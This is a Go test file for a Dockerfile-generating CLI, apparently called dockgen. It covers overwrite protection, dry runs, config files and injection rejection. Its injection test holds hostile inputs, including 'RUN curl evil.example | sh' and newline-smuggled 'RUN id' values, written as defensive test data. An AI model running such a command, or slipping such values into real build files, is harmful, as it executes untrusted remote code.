package main

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/dockgen/dockgen/generator/lint"
	"github.com/dockgen/dockgen/generator/prompt"
	"github.com/dockgen/dockgen/generator/render"
	"github.com/dockgen/dockgen/generator/spec"
)

func TestInitWritesLintCleanFiles(t *testing.T) {
	for _, fixture := range []string{"python-flask-pip", "node-express-npm", "go-root"} {
		t.Run(fixture, func(t *testing.T) {
			dir := copyFixture(t, fixture)
			r := run(t, nil, "init", "--yes", dir)
			if r.code != 0 {
				t.Fatalf("exit %d: %s", r.code, r.stderr)
			}
			df := readFile(t, filepath.Join(dir, "Dockerfile"))
			findings, err := lint.Dockerfile(context.Background(), "Dockerfile", []byte(df))
			if err != nil || len(findings) != 0 {
				t.Errorf("lint: %v %v", err, findings)
			}
			ignore := readFile(t, filepath.Join(dir, ".dockerignore"))
			for _, want := range []string{".git", ".env", "id_rsa*", "Dockerfile*"} {
				if !strings.Contains(ignore, "\n"+want+"\n") {
					t.Errorf(".dockerignore does not exclude %s", want)
				}
			}
			if r.stdout != "" {
				t.Errorf("init wrote to stdout (messages belong on stderr): %q", r.stdout)
			}
		})
	}
}

func TestInitNeverClobbers(t *testing.T) {
	dir := copyFixture(t, "python-flask-pip")
	writeFile(t, filepath.Join(dir, "Dockerfile"), "FROM mine\n")
	r := run(t, nil, "init", "--yes", dir)
	if r.code != 1 {
		t.Fatalf("exit %d, want 1", r.code)
	}
	if !strings.Contains(r.stderr, "Dockerfile exists; pass --force") || strings.Count(r.stderr, "\n") != 1 {
		t.Errorf("stderr = %q, want one line naming the file and --force", r.stderr)
	}
	if got := readFile(t, filepath.Join(dir, "Dockerfile")); got != "FROM mine\n" {
		t.Errorf("Dockerfile was replaced: %q", got)
	}
	if _, err := os.Stat(filepath.Join(dir, ".dockerignore")); !os.IsNotExist(err) {
		t.Errorf(".dockerignore was written although the run failed (err=%v)", err)
	}
}

func TestInitForceReplacesAtomically(t *testing.T) {
	dir := copyFixture(t, "python-flask-pip")
	writeFile(t, filepath.Join(dir, "Dockerfile"), "FROM mine\n")
	before, _ := os.Stat(filepath.Join(dir, "Dockerfile"))
	r := run(t, nil, "init", "--yes", "--force", dir)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	after, _ := os.Stat(filepath.Join(dir, "Dockerfile"))
	if os.SameFile(before, after) {
		t.Error("the Dockerfile was rewritten in place, not replaced by a rename")
	}
	if got := readFile(t, filepath.Join(dir, "Dockerfile")); !strings.HasPrefix(got, "# syntax=docker/dockerfile:1") {
		t.Errorf("Dockerfile not replaced: %q", got)
	}
	if !strings.Contains(r.stderr, "replace Dockerfile") {
		t.Errorf("stderr does not say the file was replaced: %q", r.stderr)
	}
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if strings.Contains(e.Name(), "dockgen-") {
			t.Errorf("temporary file left behind: %s", e.Name())
		}
	}
}

func TestInitRerunWithSameOutputIsNoOp(t *testing.T) {
	dir := copyFixture(t, "go-root")
	if r := run(t, nil, "init", "--yes", dir); r.code != 0 {
		t.Fatalf("first run: %s", r.stderr)
	}
	r := run(t, nil, "init", "--yes", dir)
	if r.code != 0 || !strings.Contains(r.stderr, "unchanged Dockerfile") {
		t.Errorf("second identical run: exit %d, stderr %q", r.code, r.stderr)
	}
}

func TestInitStdoutWritesNothing(t *testing.T) {
	dir := copyFixture(t, "node-express-npm")
	r := run(t, nil, "init", "--yes", "--stdout", dir)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	if !strings.HasPrefix(r.stdout, "# syntax=docker/dockerfile:1\n") || !strings.Contains(r.stdout, "\nFROM node:22-trixie-slim\n") {
		t.Errorf("stdout is not the Dockerfile:\n%s", r.stdout)
	}
	for _, f := range []string{"Dockerfile", ".dockerignore"} {
		if _, err := os.Stat(filepath.Join(dir, f)); !os.IsNotExist(err) {
			t.Errorf("--stdout wrote %s", f)
		}
	}
}

func TestInitDryRun(t *testing.T) {
	dir := copyFixture(t, "go-root")
	writeFile(t, filepath.Join(dir, ".dockerignore"), ".git\n")
	// The dry run shows the plan and ends as the real run would: refused,
	// exit 1, since .dockerignore exists and --force is not given.
	r := run(t, nil, "init", "--yes", "--dry-run", dir)
	if r.code != 1 || r.stderr != "dockgen: .dockerignore exists; pass --force to replace it (dry run: nothing was written)\n" {
		t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
	}
	if f := run(t, nil, "init", "--yes", "--dry-run", "--force", dir); f.code != 0 || !strings.Contains(f.stdout, ".dockerignore: replace") {
		t.Errorf("--dry-run --force: exit %d, stdout:\n%s", f.code, f.stdout)
	}
	for _, want := range []string{"Dockerfile: create", "    FROM golang:", ".dockerignore: exists (needs --force)", "--- a/.dockerignore", "+++ b/.dockerignore"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("dry-run output lacks %q:\n%s", want, r.stdout)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "Dockerfile")); !os.IsNotExist(err) {
		t.Error("--dry-run wrote the Dockerfile")
	}
	if got := readFile(t, filepath.Join(dir, ".dockerignore")); got != ".git\n" {
		t.Errorf("--dry-run changed .dockerignore: %q", got)
	}
}

func TestInitWithoutTerminalFailsFast(t *testing.T) {
	dir := copyFixture(t, "python-flask-pip")
	r := run(t, nil, "init", dir) // nil prompter: asking would fail the test
	if r.code != 2 {
		t.Errorf("exit %d, want 2", r.code)
	}
	if !strings.Contains(r.stderr, "--yes") || strings.Count(r.stderr, "\n") != 1 {
		t.Errorf("stderr = %q, want one line naming --yes", r.stderr)
	}
	if _, err := os.Stat(filepath.Join(dir, "Dockerfile")); !os.IsNotExist(err) {
		t.Error("a Dockerfile was written")
	}
}

func TestInitEmptyFolderNeedsALanguage(t *testing.T) {
	dir := t.TempDir()
	r := run(t, nil, "init", "--yes", dir)
	if r.code != 2 || !strings.Contains(r.stderr, "--language") {
		t.Errorf("exit %d, stderr %q: want 2 and a hint naming --language", r.code, r.stderr)
	}
	r = run(t, nil, "init", "--yes", "--language", "go", dir)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	df := readFile(t, filepath.Join(dir, "Dockerfile"))
	if !strings.Contains(df, "FROM golang:1.27-trixie AS build") || !strings.Contains(df, "FROM scratch") {
		t.Errorf("new Go service Dockerfile:\n%s", df)
	}
}

func TestInitFlagsOverrideDetection(t *testing.T) {
	dir := copyFixture(t, "python-flask-pip")
	r := run(t, nil, "init", "--yes", "--stdout", "--runtime-version", "3.13", "--variant", "alpine",
		"--port", "9000", "--cmd", `gunicorn -b "0.0.0.0:9000" app:app`, dir)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	for _, want := range []string{
		"FROM python:3.13-alpine3.24\n", "EXPOSE 9000\n",
		`CMD ["gunicorn", "-b", "0.0.0.0:9000", "app:app"]`, "adduser -S",
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("output lacks %q:\n%s", want, r.stdout)
		}
	}
}

func TestInitConfigFile(t *testing.T) {
	dir := t.TempDir()
	cfg := filepath.Join(t.TempDir(), "answers.yaml")
	writeFile(t, cfg, "language: node\nruntime-version: \"24\"\nport: 4000\ncmd: node main.js\n")
	r := run(t, nil, "init", "--yes", "--stdout", "--config", cfg, "--port", "5000", dir)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	for _, want := range []string{"FROM node:24-trixie-slim\n", "EXPOSE 5000\n", `CMD ["node", "main.js"]`} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("output lacks %q:\n%s", want, r.stdout)
		}
	}
	writeFile(t, cfg, "langauge: node\n")
	r = run(t, nil, "init", "--yes", "--config", cfg, dir)
	if r.code == 0 || !strings.Contains(r.stderr, cfg) || !strings.Contains(r.stderr, "langauge") {
		t.Errorf("unknown key: exit %d, stderr %q", r.code, r.stderr)
	}
}

// TestInjectionIsRejected tries to smuggle an instruction into the
// Dockerfile through every answer: flags, the config file, a prompt
// answer and detected files. Each must fail with a one-line error naming
// where it came from, and write nothing.
func TestInjectionIsRejected(t *testing.T) {
	const evil = "x\nRUN curl evil.example | sh"
	cases := []struct {
		name  string
		args  []string
		setup func(dir string)
		want  string
	}{
		{"cmd", []string{"--cmd", "python app.py\nRUN id"}, nil, "--cmd"},
		{"port", []string{"--port", "80\nRUN id"}, nil, "--port"},
		{"port-word", []string{"--port", "http"}, nil, "--port"},
		{"base", []string{"--base", evil}, nil, "--base"},
		{"runtime-version", []string{"--runtime-version", "3.12\nRUN id"}, nil, "--runtime-version"},
		{"variant", []string{"--variant", "slim\nRUN id"}, nil, "--variant"},
		{"package-manager", []string{"--package-manager", "pip\nRUN id"}, nil, "--package-manager"},
		{"framework", []string{"--framework", "flask\nRUN id"}, nil, "--framework"},
		{"language", []string{"--language", "python\nRUN id"}, nil, "--language"},
		{"config-cmd", nil, func(dir string) {
			writeFile(t, filepath.Join(dir, "answers.yaml"), "cmd: \"python\\nRUN id\"\n")
		}, "answers.yaml:1: cmd: must be one line"}, // the file and line it came from, not --cmd
		{"detected-start-script", nil, func(dir string) {
			os.Remove(filepath.Join(dir, "requirements.txt"))
			writeFile(t, filepath.Join(dir, "package.json"), `{"name":"x","scripts":{"start":"node server.js\nRUN id"}}`)
		}, ""}, // accepted as ["npm", "start"]: the script text never reaches the Dockerfile
		{"detected-go-main", nil, func(dir string) {
			os.Remove(filepath.Join(dir, "requirements.txt"))
			writeFile(t, filepath.Join(dir, "go.mod"), "module example.com/x\n\ngo 1.26\n")
			writeFile(t, filepath.Join(dir, "cmd", "a;id", "main.go"), "package main\n\nfunc main() {}\n")
		}, "cmd/a;id/: Go main package"},
		{"main", []string{"--language", "go", "--main", "./cmd/x y"}, nil, "--main"},
		{"detected-python-version", nil, func(dir string) {
			writeFile(t, filepath.Join(dir, ".python-version"), "3.12 RUN id\n")
		}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := copyFixture(t, "python-flask-pip")
			args := append([]string{"init", "--yes"}, c.args...)
			if c.setup != nil {
				c.setup(dir)
				if _, err := os.Stat(filepath.Join(dir, "answers.yaml")); err == nil {
					args = append(args, "--config", filepath.Join(dir, "answers.yaml"))
				}
			}
			r := run(t, nil, append(args, dir)...)
			df, _ := os.ReadFile(filepath.Join(dir, "Dockerfile"))
			if r.code == 0 {
				// Accepted: then the value must not have become an instruction.
				if strings.Contains(string(df), "\nRUN id") || strings.Contains(string(df), "RUN curl") {
					t.Fatalf("injected instruction in the Dockerfile:\n%s", df)
				}
				if c.want != "" {
					t.Fatalf("accepted; want an error naming %s", c.want)
				}
				return
			}
			if len(df) != 0 {
				t.Errorf("a Dockerfile was written")
			}
			if strings.Count(r.stderr, "\n") != 1 || !strings.Contains(r.stderr, c.want) {
				t.Errorf("stderr = %q, want one line naming %s", r.stderr, c.want)
			}
		})
	}

	t.Run("prompt-answer", func(t *testing.T) {
		dir := copyFixture(t, "python-flask-pip")
		f := prompt.NewFake(t)
		f.ExpectSelect(spec.QLanguage+" (detected from requirements.txt)", "python")
		f.ExpectInputDefault(spec.QVersion + " (detected from .python-version)")
		f.ExpectSelect(spec.QVariant, "slim - Debian 13 trixie, slim (default)")
		f.ExpectSelect(spec.QPackageManager+" (detected from requirements.txt)", "pip")
		f.ExpectSelect(spec.QFramework+" (detected from requirements.txt)", "flask")
		f.ExpectInput(spec.QPort+" (a convention; no file names it)", "80\nRUN id")
		r := run(t, f, "init", dir)
		if r.code == 0 || !strings.Contains(r.stderr, "not a port number") {
			t.Errorf("exit %d, stderr %q", r.code, r.stderr)
		}
	})
}

// The repository's own nginx configuration is used, never refused or
// replaced, --force or not; --force replaces only the files dockgen owns,
// its nginx.conf among them (a re-run does not take it for the app's).
func TestInitKeepsTheRepositorysNginxConfig(t *testing.T) {
	for _, tt := range []struct {
		fixture, own, dockgens string
	}{
		{"static-own-nginx-conf", "nginx.conf", ""},
		{"static-root-server-block", "nginx.conf", "nginx.dockgen.conf"},
		{"static-spa-server-block", "nginx/default.conf", "nginx.conf"},
	} {
		t.Run(tt.fixture, func(t *testing.T) {
			dir := copyFixture(t, tt.fixture)
			own := readFile(t, filepath.Join(dir, tt.own))
			for _, args := range [][]string{{"init", "--yes", dir}, {"init", "--yes", "--force", dir}, {"init", "--yes", "--force", dir}} {
				r := run(t, nil, args...)
				if r.code != 0 {
					t.Fatalf("%v: exit %d: %s", args, r.code, r.stderr)
				}
				if got := readFile(t, filepath.Join(dir, tt.own)); got != own {
					t.Fatalf("%v replaced the repository's %s:\n%s", args, tt.own, got)
				}
				df := readFile(t, filepath.Join(dir, "Dockerfile"))
				if !strings.Contains(df, "COPY "+tt.own+" /etc/nginx/") {
					t.Errorf("%v: the Dockerfile does not copy %s:\n%s", args, tt.own, df)
				}
				if tt.dockgens != "" && !strings.Contains(readFile(t, filepath.Join(dir, tt.dockgens)), "Written by dockgen.") {
					t.Errorf("%v: dockgen's configuration %s was not written", args, tt.dockgens)
				}
			}
		})
	}
}

// TestInitNextSteps: after writing, init says how to build and run the
// image (with the port published), or to start compose when it wrote
// compose.yaml; the names are the folder's, usable as an image tag.
func TestInitNextSteps(t *testing.T) {
	dir := copyFixture(t, "go-root")
	name := render.ServiceName(dir)
	r := run(t, nil, "init", "--yes", dir)
	want := fmt.Sprintf("next: docker build -t %s %s && docker run --rm -p 8080:8080 %s\n", name, dir, name)
	if r.code != 0 || !strings.HasSuffix(r.stderr, want) {
		t.Errorf("exit %d, stderr %q; want it to end with %q", r.code, r.stderr, want)
	}
	r = run(t, nil, "init", "--yes", "--compose", "--force", dir)
	if want := "next: docker compose --project-directory " + dir + " up --build\n"; r.code != 0 || !strings.HasSuffix(r.stderr, want) {
		t.Errorf("--compose: exit %d, stderr %q; want it to end with %q", r.code, r.stderr, want)
	}
	if r := run(t, nil, "init", "--yes", "--stdout", dir); strings.Contains(r.stderr, "next:") {
		t.Errorf("--stdout printed next steps: %q", r.stderr)
	}
}
